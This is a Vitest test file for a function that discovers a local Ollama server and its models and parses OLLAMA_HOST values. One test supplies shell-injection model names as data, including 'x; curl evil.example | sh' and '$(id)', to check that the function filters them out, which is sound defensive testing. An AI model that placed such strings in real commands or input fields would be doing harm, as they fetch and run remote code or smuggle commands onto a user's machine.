import { createServer, type RequestListener } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, expect, test } from 'vitest';
import { findOllama, ollamaAddress } from './find-ollama.ts';

const cleanUp: (() => void)[] = [];
afterEach(() => cleanUp.splice(0).forEach((clean) => clean()));

async function serve(listener: RequestListener): Promise<URL> {
  const server = createServer(listener);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanUp.push(() => {
    server.closeAllConnections();
    server.close();
  });
  return new URL(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
}

test('finds a running Ollama and its models', async () => {
  const paths: (string | undefined)[] = [];
  const address = await serve((req, res) => {
    paths.push(req.url);
    res.end(JSON.stringify({ models: [{ name: 'llama3.1:8b', size: 1 }, { name: 'qwen3:4b' }] }));
  });
  expect(await findOllama(address)).toEqual([
    { name: 'Ollama', baseUrl: `${address.origin}/v1`, models: ['llama3.1:8b', 'qwen3:4b'] },
  ]);
  expect(paths).toEqual(['/api/tags']);
});

test('leaves out names that would be commands in a shell', async () => {
  const names = ['qwen3:4b', 'x; curl evil.example | sh', '$(id)', 'a\nid', 'a\u0003', ''];
  const address = await serve((_, res) => res.end(JSON.stringify({ models: names.map((name) => ({ name })) })));
  expect((await findOllama(address))[0]?.models).toEqual(['qwen3:4b']);
});

test('does not read more than a megabyte', async () => {
  let isClosed = false;
  const address = await serve((_, res) => {
    const write = () => {
      if (!isClosed) res.write(' '.repeat(2 ** 16), () => void setImmediate(write));
    };
    res.on('close', () => (isClosed = true));
    write();
  });
  expect(await findOllama(address, 60_000)).toEqual([]);
  await expect.poll(() => isClosed).toBe(true);
});

test.each<[string, RequestListener]>([
  ['answers something else', (_, res) => res.end('<html>')],
  ['redirects', (_, res) => res.writeHead(302, { Location: 'http://127.0.0.1:1/' }).end()],
  ['closes the connection', (_, res) => res.destroy()],
  ['never answers', () => undefined],
])('finds nothing where a server %s', async (_, listener) => {
  expect(await findOllama(await serve(listener), 100)).toEqual([]);
});

test('finds nothing where nothing listens', async () => {
  expect(await findOllama(new URL('http://127.0.0.1:1'))).toEqual([]);
});

test.each([
  [undefined, 'http://127.0.0.1:11434'],
  ['', 'http://127.0.0.1:11434'],
  ['0.0.0.0', 'http://127.0.0.1:11434'],
  ['0.0.0.0:8080', 'http://127.0.0.1:8080'],
  ['models.local', 'http://models.local:11434'],
  ['models.local:80', 'http://models.local'],
  ['http://[::]:7000/', 'http://127.0.0.1:7000'],
  ['https://models.local', 'https://models.local:11434'],
  ['not an address', 'http://127.0.0.1:11434'],
])('reads OLLAMA_HOST %j as %s', (host, origin) => {
  expect(ollamaAddress(host).origin).toBe(origin);
});
